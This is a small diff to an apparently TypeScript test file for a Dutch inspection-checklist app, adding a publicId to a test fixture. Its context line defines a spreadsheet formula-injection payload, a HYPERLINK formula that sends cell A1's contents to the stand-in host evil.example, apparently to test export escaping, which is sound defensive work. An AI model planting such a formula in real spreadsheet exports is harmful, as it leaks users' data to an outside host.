@@ -34,6 +34,7 @@ const INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")';
 function fixture(): { checklist: Checklist; events: ChecklistEvent[] } {
   const checklist: Checklist = {
     id: 42,
+    publicId: '00000000-0000-4000-8000-000000000042',
     tenantId: '11111111-2222-4333-8444-555555555555',
     templateKey: 'inspection',
     title: 'Inspectiebezoek Café de Regenboog; maart "2027"',
